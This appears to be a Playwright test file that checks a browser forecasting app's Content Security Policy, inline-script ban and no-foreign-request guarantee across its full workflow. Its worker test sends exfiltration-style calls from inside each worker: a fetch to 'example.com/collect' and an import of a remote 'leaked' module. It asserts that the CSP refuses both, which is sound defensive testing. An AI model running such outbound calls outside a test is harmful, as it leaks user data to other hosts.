import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { importCsv, openDemo, openModels, snap } from './helpers';

test('the built index.html carries the CSP and has no inline scripts', () => {
  const html = readFileSync('dist/index.html', 'utf8');
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(csp).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
  expect(csp).toContain("object-src 'none'");
  for (const tag of html.match(/<script\b[^>]*>/g) ?? []) expect(tag).toMatch(/\ssrc=/);
  expect(html).not.toMatch(/\son[a-z]+=/i); // no inline event handlers
});

/**
 * Issue 8: the WHOLE flow — demo, import, forecast, train, plan, export — sends nothing to any other
 * origin and breaks no CSP rule. Requests are watched on the browser context, so the workers' and
 * the service worker's fetches count too; CSP violations are caught on the page (the event) and in
 * every console, workers' included (Chromium logs each refused load there).
 */
test('the whole flow makes no request to any other origin and breaks no CSP rule', async ({ page, context, baseURL }) => {
  test.setTimeout(180_000);
  const origin = new URL(baseURL as string).origin;
  const foreign: string[] = [];
  const requests: string[] = [];
  context.on('request', (request) => {
    const url = request.url();
    requests.push(url);
    if (!url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url);
  });
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(message.text());
  });
  page.on('worker', (worker) => worker.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(`${worker.url()}: ${message.text()}`);
  }));
  await page.addInitScript(() => {
    (window as unknown as { __cspViolations: string[] }).__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __cspViolations: string[] }).__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  const views = page.getByRole('navigation', { name: 'Views' });

  // Demo, then its forecast.
  await openDemo(page);
  await expect(page.getByTestId('forecast-chart').locator('canvas')).toBeVisible();
  // Import a file of the seller's; it is forecast with the rest.
  await views.getByRole('button', { name: 'Data' }).click();
  await importCsv(page, 'tests/fixtures/skeleton-sales.csv', 'data-file-input');
  await expect(page.getByText(/Last forecast: 122 products/)).toBeVisible({ timeout: 60_000 });
  // Train: a short fine-tune of the Transformer, stored as a version.
  const card = await openModels(page);
  await card.getByLabel('Budget').selectOption('quick');
  await card.getByRole('button', { name: 'Fine-tune on my sales' }).click();
  await expect(page.getByTestId('train-summary')).toContainText(/Kept|Not kept/, { timeout: 90_000 });
  await expect(page.getByRole('region', { name: 'Model versions' }).locator('tbody tr[data-version^="tfm-"]')).toHaveCount(1);
  // Plan, and export it: the purchase plan CSV the seller downloads.
  await views.getByRole('button', { name: 'Plan' }).click();
  await expect(page.locator('section[aria-label="Reorder plan"] tbody tr')).toHaveCount(122, { timeout: 60_000 });
  await page.getByText('Full table for analysts').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'All columns (Excel)' }).click()]);
  const csv = readFileSync(await download.path(), 'utf8');
  expect(csv.split('\r\n').filter((line) => line !== '')).toHaveLength(1 + 122);
  expect(csv).toContain('\r\nREG-1,');
  await expect(page.getByTestId('compute-backend')).not.toHaveText(/starting/);
  await snap(page, 'privacy-flow');

  expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);
  expect(refused).toEqual([]);
  expect(foreign).toEqual([]);
  // The flow did load what it needed, from this origin: workers, wasm, the model weights, the demo.
  expect(requests.some((url) => /\.wasm$/.test(url))).toBe(true);
  expect(requests.some((url) => /\/demo\/online-retail-sample\.csv$/.test(url))).toBe(true);
  expect(requests.some((url) => url.includes('/models/shelfcast-transformer/'))).toBe(true);
});

/**
 * index.html's policy is a <meta> tag; a worker loaded from its own URL would take its policy from
 * its script's HTTP headers instead (none on a static host) and could reach any origin. The app
 * starts its workers from blob: bootstraps so they inherit the page's policy: checked here from
 * inside every worker the flow starts, where the machine learning libraries run.
 */
test('every worker is under the page\'s CSP: nothing inside one can fetch or import from another origin', async ({ page, context }) => {
  // The other origin answers (this machine has no internet): only the policy can stop the calls.
  const reached: string[] = [];
  await context.route('https://example.com/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: 'export const leaked = true;' });
  });
  await openDemo(page);
  await openModels(page);
  const outcomes: { name: string; fetched: string; imported: string }[] = [];
  for (const worker of page.workers()) {
    outcomes.push(await worker.evaluate(async () => {
      const module = 'https://example.com/module.js';
      const fetched = await fetch('https://example.com/collect').then(() => 'fetched', () => 'refused');
      const imported = await import(/* @vite-ignore */ module).then(() => 'imported', () => 'refused');
      return { name: self.name, fetched, imported };
    }));
  }
  const onPage = await page.evaluate(async () => {
    const module = 'https://example.com/module.js';
    return {
      name: 'page',
      fetched: await fetch('https://example.com/collect').then(() => 'fetched', () => 'refused'),
      imported: await import(/* @vite-ignore */ module).then(() => 'imported', () => 'refused'),
    };
  });
  for (const outcome of [...outcomes, onPage]) {
    expect(outcome, `in the ${outcome.name} worker`).toEqual({ name: outcome.name, fetched: 'refused', imported: 'refused' });
  }
  expect(outcomes.map((o) => o.name)).toEqual(expect.arrayContaining(['import', 'forecast', 'embed', 'train']));
  expect(reached).toEqual([]);
});
